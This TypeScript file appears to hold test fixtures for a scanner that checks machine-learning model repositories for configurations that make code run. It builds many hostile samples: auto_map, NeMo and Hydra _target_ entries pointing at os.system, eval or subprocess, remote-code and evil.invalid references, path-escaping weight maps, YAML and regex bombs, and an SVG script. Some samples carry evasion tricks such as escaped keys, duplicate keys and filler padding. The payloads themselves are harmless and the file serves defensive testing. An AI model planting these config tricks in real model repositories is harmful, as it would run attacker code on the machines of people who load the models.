import type { Sample } from '../sample.ts'
import { hostile, json, tar, text } from './write.ts'
import { yamls } from './yaml-tags.ts'

const config = { model_type: 'x', architectures: ['XModel'] }
const code = text('import torch\nfrom transformers import PreTrainedModel\n\n\nclass X(PreTrainedModel):\n    pass\n')
const badCode = text(
  'import os as o\nfrom transformers import PreTrainedModel\n\no.system("true")\n\n\nclass X(PreTrainedModel):\n    pass\n',
)
const helper = text('import torch\nfrom .helper import go\n\n\nclass X(torch.nn.Module):\n    pass\n')
const badHelper = text('import subprocess\n\n\ndef go():\n    subprocess.run(["true"])\n')
const autoMap = (value: unknown): Uint8Array => json({ ...config, auto_map: value })

const autoMaps: readonly Sample[] = [
  hostile(
    'auto-map-own',
    'auto_map',
    { 'config.json': autoMap({ AutoModel: 'modeling_x.X' }), 'modeling_x.py': code },
    'modeling_x.py',
    'hold',
  ),
  hostile(
    'auto-map-deeds',
    'auto_map',
    { 'config.json': autoMap({ AutoModel: 'modeling_x.X' }), 'modeling_x.py': badCode },
    'os.system',
  ),
  hostile(
    'auto-map-deeds-imported',
    'auto_map',
    { 'config.json': autoMap({ AutoModel: 'modeling_x.X' }), 'modeling_x.py': helper, 'helper.py': badHelper },
    'subprocess.run',
  ),
  hostile(
    'auto-map-elsewhere',
    'auto_map',
    { 'config.json': autoMap({ AutoModel: 'somebody/else--modeling_x.X' }) },
    'somebody/else',
  ),
  hostile(
    'auto-map-missing',
    'auto_map',
    { 'config.json': autoMap({ AutoModel: 'modeling_x.X' }) },
    'modeling_x',
    'hold',
  ),
  hostile(
    'auto-map-tokenizer-list',
    'auto_map',
    { 'tokenizer_config.json': json({ auto_map: { AutoTokenizer: ['somebody/else--tok.T', null] } }) },
    'somebody/else',
  ),
  hostile(
    'auto-map-nested',
    'auto_map',
    { 'config.json': json({ ...config, text_config: { deep: [{ auto_map: { AutoModel: 'a/b--m.X' } }] } }) },
    'a/b--m',
  ),
  hostile(
    'auto-map-path',
    'auto_map',
    { 'config.json': autoMap({ AutoModel: '../../evil/modeling.X' }) },
    '../../evil',
  ),
  hostile(
    'auto-map-url',
    'auto_map',
    { 'config.json': autoMap({ AutoModel: 'https://evil.invalid/m.X' }) },
    'evil.invalid',
  ),
  hostile('auto-map-standard-library', 'auto_map', { 'config.json': autoMap({ AutoModel: 'os.system' }) }, 'os.system'),
  hostile(
    'auto-map-doubled',
    'auto_map',
    { 'config.json': text('{"auto_map": {"AutoModel": "a/b--m.X"}, "auto_map": {}}') },
    'a/b--m',
  ),
  hostile(
    'auto-map-escaped',
    'auto_map',
    { 'config.json': text('{"\\u0061uto_map": {"AutoModel": "a\\/b--m.X"}}') },
    'a/b--m',
  ),
  hostile(
    'auto-map-behind-filler',
    'auto_map',
    {
      'config.json': json({
        vocab: Object.fromEntries(Array.from({ length: 6000 }, (_, k) => [`w${k}`, k])),
        ...config,
        auto_map: { AutoModel: 'a/b--m.X' },
      }),
    },
    'a/b--m',
  ),
  hostile('auto-map-odd-name', 'auto_map', { 'notes.txt': autoMap({ AutoModel: 'a/b--m.X' }) }, 'a/b--m'),
  hostile(
    'trust-remote-code',
    'auto_map',
    { 'config.json': json({ ...config, trust_remote_code: true }) },
    'trust_remote_code',
    'hold',
  ),
  hostile(
    'custom-pipelines-entry',
    'custom pipelines',
    { 'config.json': json({ ...config, custom_pipelines: { mine: { impl: 'a/b--mine.Pipe', pt: ['AutoModel'] } } }) },
    'a/b--mine',
  ),
  hostile(
    'peft-library',
    'custom pipelines',
    {
      'adapter_config.json': json({
        peft_type: 'LORA',
        auto_mapping: { base_model_class: 'system', parent_library: 'os' },
      }),
    },
    'os.system',
  ),
]

const index = (more: object): Uint8Array =>
  json({
    _class_name: 'StableDiffusionPipeline',
    _diffusers_version: '0.30.0',
    vae: ['diffusers', 'AutoencoderKL'],
    ...more,
  })
const pipelines: readonly Sample[] = [
  hostile(
    'pipeline-class-own',
    'custom pipelines',
    { 'model_index.json': index({ _class_name: ['pipe', 'P'] }), 'pipe.py': code },
    'pipe.py',
    'hold',
  ),
  hostile(
    'pipeline-class-deeds',
    'custom pipelines',
    { 'model_index.json': index({ _class_name: ['pipe', 'P'] }), 'pipe.py': badCode },
    'os.system',
  ),
  hostile(
    'pipeline-part-own',
    'custom pipelines',
    { 'model_index.json': index({ unet: ['my_unet', 'U'] }), 'unet/my_unet.py': code },
    'my_unet',
    'hold',
  ),
  hostile(
    'pipeline-part-library',
    'custom pipelines',
    { 'model_index.json': index({ unet: ['subprocess', 'Popen'] }) },
    'subprocess.Popen',
  ),
  hostile(
    'pipeline-named',
    'custom pipelines',
    { 'config.json': json({ custom_pipeline: 'somebody/pipe' }) },
    'somebody/pipe',
    'hold',
  ),
  hostile(
    'pipeline-address',
    'custom pipelines',
    { 'config.json': json({ custom_pipeline: 'https://evil.invalid/p.py' }) },
    'evil.invalid',
  ),
]

const module = (type: string) => [
  { idx: 0, name: '0', path: '', type: 'sentence_transformers.models.Transformer' },
  { idx: 1, name: '1', path: '1_x', type },
]
const modules: readonly Sample[] = [
  hostile(
    'modules-own',
    'modules.json',
    { 'modules.json': json(module('custom_st.Pool')), 'custom_st.py': code },
    'custom_st.py',
    'hold',
  ),
  hostile(
    'modules-deeds',
    'modules.json',
    { 'modules.json': json(module('custom_st.Pool')), 'custom_st.py': badCode },
    'os.system',
  ),
  hostile('modules-library', 'modules.json', { 'modules.json': json(module('subprocess.Popen')) }, 'subprocess.Popen'),
  hostile(
    'modules-elsewhere',
    'modules.json',
    { 'modules.json': json(module('a/b--custom_st.Pool')) },
    'a/b--custom_st',
  ),
  hostile(
    'modules-unknown',
    'modules.json',
    { 'modules.json': json(module('some_package.Pool')) },
    'some_package',
    'hold',
  ),
]

const mlmodel = (flavor: string): Uint8Array =>
  text(`artifact_path: model\nflavors:\n  python_function:\n${flavor}run_id: abc\n`)
const mlflow: readonly Sample[] = [
  hostile(
    'mlmodel-unknown-loader',
    'MLmodel loader',
    { MLmodel: mlmodel('    loader_module: evil_loader\n') },
    'evil_loader',
  ),
  hostile(
    'mlmodel-library-loader',
    'MLmodel loader',
    { MLmodel: mlmodel('    loader_module: subprocess\n') },
    'subprocess',
  ),
  hostile(
    'mlmodel-own-code',
    'MLmodel loader',
    { MLmodel: mlmodel('    loader_module: mine\n    code: code\n'), 'code/mine.py': code },
    'code/mine.py',
    'hold',
  ),
  hostile(
    'mlmodel-own-deeds',
    'MLmodel loader',
    { MLmodel: mlmodel('    loader_module: mine\n    code: code\n'), 'code/mine.py': badCode },
    'os.system',
  ),
  hostile(
    'mlmodel-from-code',
    'MLmodel loader',
    {
      MLmodel: mlmodel('    loader_module: mlflow.pyfunc.model\n    model_code_path: model.py\n'),
      'model.py': badCode,
    },
    'os.system',
  ),
  hostile(
    'requirements-elsewhere',
    'MLmodel loader',
    { 'requirements.txt': text('torch==2.4\n--extra-index-url https://evil.invalid/simple\n') },
    'evil.invalid',
    'hold',
  ),
  hostile(
    'conda-elsewhere',
    'MLmodel loader',
    {
      'conda.yaml': text(
        'name: env\ndependencies:\n- python=3.10\n- pip:\n  - torch\n  - git+https://evil.invalid/x.git\n',
      ),
    },
    'evil.invalid',
    'hold',
  ),
]

const nemoConfig = (target: string, more = ''): Uint8Array =>
  text(
    `sample_rate: 16000\npreprocessor:\n  _target_: ${target}\n${more}decoder:\n  _target_: nemo.collections.asr.modules.ConvASRDecoder\n  feat_in: 512\n`,
  )
const nemo = (name: string, target: string, names: string, verdict: 'hold' | 'block' = 'block', more = ''): Sample =>
  hostile(
    `nemo-${name}`,
    'NeMo _target_',
    { 'model.nemo': tar({ './model_config.yaml': nemoConfig(target, more), './model_weights.txt': text('weights') }) },
    names,
    verdict,
  )
const nemos: readonly Sample[] = [
  nemo('system', 'os.system', 'os.system', 'block', '  command: "true"\n'),
  nemo('subprocess', 'subprocess.run', 'subprocess.run', 'block', '  args: ["true"]\n'),
  nemo('eval', 'builtins.eval', 'builtins.eval'),
  nemo('walk', 'nemo.collections.asr.parts.utils.manifest_utils.os.system', 'os.system'),
  nemo('torch-load', 'torch.load', 'torch.load'),
  nemo('hub', 'torch.hub.load', 'torch.hub.load'),
  nemo('unknown', 'some_package.run', 'some_package.run'),
  nemo('unlisted', 'nemo.collections.asr.modules.SomethingNew', 'SomethingNew', 'hold'),
  nemo('quoted', '"\\x6fs.system"', 'os.system'),
  nemo('merged', '&t os.system\nother:\n  _target_: *t', 'os.system'),
  hostile(
    'nemo-model-class',
    'NeMo _target_',
    { 'model_config.yaml': text('target: evil_package.models.Evil\nnemo_version: 2.0.0\n') },
    'evil_package',
  ),
  hostile(
    'hydra-json',
    'NeMo _target_',
    { 'config.json': json({ model: { _target_: 'os.system', command: 'true' } }) },
    'os.system',
  ),
  hostile(
    'hydra-list',
    'NeMo _target_',
    { 'conf.yaml': text('callbacks:\n  - _target_: runpy.run_path\n    path: x.py\n') },
    'runpy.run_path',
  ),
  hostile(
    'diffusion-target',
    'NeMo _target_',
    { 'v1.yaml': text('model:\n  target: os.system\n  params:\n    command: "true"\n') },
    'os.system',
  ),
  hostile(
    'lightning-class-path',
    'NeMo _target_',
    { 'config.yaml': text('model:\n  class_path: subprocess.Popen\n  init_args:\n    args: ["true"]\n') },
    'subprocess.Popen',
  ),
]

const others: readonly Sample[] = [
  hostile(
    'index-leaves',
    'files that leave',
    { 'model.safetensors.index.json': json({ weight_map: { a: '../../../etc/model.bin' } }) },
    '../../../etc',
  ),
  hostile(
    'index-absolute',
    'files that leave',
    { 'pytorch_model.bin.index.json': json({ weight_map: { a: '/etc/model.bin' } }) },
    '/etc/model.bin',
  ),
  hostile(
    'regex-bomb',
    'bombs',
    { 'tokenizer.json': json({ pre_tokenizer: { type: 'Split', pattern: { Regex: '(\\w+\\s?)*$' } } }) },
    'json-regex-bomb',
    'hold',
  ),
  hostile(
    'alias-bomb',
    'bombs',
    {
      'a.yaml': text(
        `a: &a [x,x,x,x,x,x,x,x,x,x]\n${[...'bcdefghi'].map((c, k) => `${c}: &${c} [${Array(10).fill(`*${'abcdefgh'[k]}`).join(',')}]\n`).join('')}`,
      ),
    },
    'yaml-alias-bomb',
    'hold',
  ),
  hostile('json-deep', 'bombs', { 'config.json': text('['.repeat(50_000)) }, 'json-malformed', 'hold'),
  hostile('yaml-deep', 'bombs', { 'config.yaml': text(`a: ${'- '.repeat(50_000)}x\n`) }, 'yaml-malformed', 'hold'),
  hostile(
    'json-doubled',
    'doubled keys',
    { 'config.json': text('{"vocab_size": 1, "vocab_size": 2}') },
    'json-duplicate-key',
    'hold',
  ),
  hostile('json-cut', 'damaged', { 'config.json': text('{"model_type": "x", "a": [1, 2') }, 'json-malformed', 'hold'),
  hostile(
    'text-with-bytes',
    'damaged',
    { 'README.md': Uint8Array.from([...text('# Title\n\nWords'), 0x80, 4, 0x95, 0, 1, 2]) },
    '',
    'hold',
  ),
  hostile(
    'svg-script',
    'pictures',
    { 'logo.svg': text('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>') },
    'picture-script',
    'hold',
  ),
]

/** Configurations that have code run, in every way of the list. */
export const configurationSamples: readonly Sample[] = [
  ...autoMaps,
  ...pipelines,
  ...modules,
  ...mlflow,
  ...nemos,
  ...yamls,
  ...others,
]
